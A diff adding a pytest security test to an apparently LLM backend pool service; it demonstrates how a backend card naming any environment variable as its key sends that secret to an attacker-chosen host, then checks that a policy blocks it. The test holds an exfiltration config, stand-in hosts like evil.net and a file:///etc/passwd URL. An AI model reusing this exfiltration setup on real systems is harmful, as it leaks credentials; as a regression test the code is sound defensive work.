@@ -40,6 +40,63 @@ def test_engines_that_cannot_be_built_here_say_why(tmp_path, monkeypatch):
         make_engine("m", {"engine": "vllm", "path": "org/model"})  # no vllm package here (a GPU extra)
 
 
+def test_a_backend_cannot_send_a_pool_variable_to_its_own_host(monkeypatch):
+    """Issue 14 (5), the attack first: an openai card naming any variable of the pool process and
+    any host gets that variable sent there as its bearer key. The app's ``BackendPolicy`` (what
+    config, HTTP and gRPC registrations and the pool itself check) refuses it, naming the field."""
+    import http.server
+    import threading
+
+    from services.pools.base import BackendPolicy
+
+    seen = []
+
+    class Capture(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):
+            seen.append(self.headers.get("Authorization"))
+            self.send_response(401)  # not retried by the client
+            self.end_headers()
+
+        def log_message(self, *a):
+            pass
+
+    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Capture)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    monkeypatch.setenv("SOME_DB_PASSWORD", "hunter2")
+    evil = {"engine": "openai", "base_url": f"http://127.0.0.1:{srv.server_port}/v1", "api_key_env": "SOME_DB_PASSWORD"}
+    try:
+        engine = make_engine("evil", evil)  # no policy: the structure alone is fine ...
+        with pytest.raises(Exception):
+            asyncio.run(_drain(engine))
+        assert "Bearer hunter2" in seen  # ... and the secret left the process
+    finally:
+        srv.shutdown()
+    policy = BackendPolicy()
+    with pytest.raises(EngineError, match=r"field 'cards\.0\.backend\.api_key_env': 'SOME_DB_PASSWORD' is not an allowed key variable"):
+        engine_config(evil, where="cards.0.backend", policy=policy)
+    for name in ("OPENAI_API_KEY", "CMR_STORE", "CMR_BACKEND_KEY"):  # a prefix must match whole
+        with pytest.raises(EngineError, match="api_key_env"):
+            engine_config({**evil, "api_key_env": name}, policy=policy)
+    assert engine_config({**evil, "api_key_env": "CMR_BACKEND_KEY_ACME"}, policy=policy).api_key_env == "CMR_BACKEND_KEY_ACME"
+    assert engine_config({"engine": "openai"}, policy=policy).api_key_env == "CMR_BACKEND_KEY_OPENAI"  # the default is allowed
+    assert engine_config({**evil, "api_key_env": "OPENAI_API_KEY"}, policy=BackendPolicy(key_envs=["OPENAI_API_KEY"]))
+    with pytest.raises(EngineError, match=r"field 'backend\.base_url': must be an http\(s\) URL"):
+        engine_config({"engine": "openai", "base_url": "file:///etc/passwd"}, policy=policy)
+    # the optional host allow-list
+    hosts = BackendPolicy(hosts=["api.openai.com", ".internal.example"])
+    for ok in ("https://api.openai.com/v1", "http://llm.internal.example:8000/v1", "https://API.OpenAI.com/v1"):
+        assert engine_config({"engine": "openai", "base_url": ok}, policy=hosts)
+    for bad in ("http://127.0.0.1:9/v1", "https://api.openai.com.evil.net/v1", "https://evil.net/internal.example"):
+        with pytest.raises(EngineError, match=r"field 'backend\.base_url': host .* is not an allowed backend host"):
+            engine_config({"engine": "openai", "base_url": bad}, policy=hosts)
+
+
+async def _drain(engine):
+    from services.pools.base import GenRequest
+
+    return [c async for c in engine.generate(GenRequest(model="m", messages=[{"role": "user", "content": "hi"}]))]
+
+
 @pytest.fixture(scope="module")
 def engines(tmp_path_factory):
     from services.pools.tiny import ensure_tiny_models
